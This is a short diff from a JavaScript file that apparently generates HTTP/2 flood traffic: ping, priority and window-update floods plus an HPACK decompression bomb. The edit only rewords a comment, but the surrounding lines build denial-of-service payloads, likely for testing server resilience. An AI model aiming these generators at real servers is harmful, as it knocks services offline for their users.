@@ -97,7 +97,7 @@ const FLOODS = {
   ping: () => repeated(batch(() => frame(PING, 0, 0, Buffer.alloc(8)))),
   priority: () => repeated(batch((at) => frame(PRIORITY, 0, at * 2 + 1, Buffer.alloc(5)))),
   'window-update': () => repeated(batch(() => frame(WINDOW_UPDATE, 0, 0, number(1)))),
-  /** Adds the largest possible entry to the HPACK table and refers to it as often as fits in a block. */
+  /** Adds the largest possible entry to the HPACK table and refers to the entry as often as fits in a block. */
   'hpack-bomb': () => {
     const id = streams();
     const large = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa0, 0x1e]), Buffer.alloc(3999, 0x78)]);
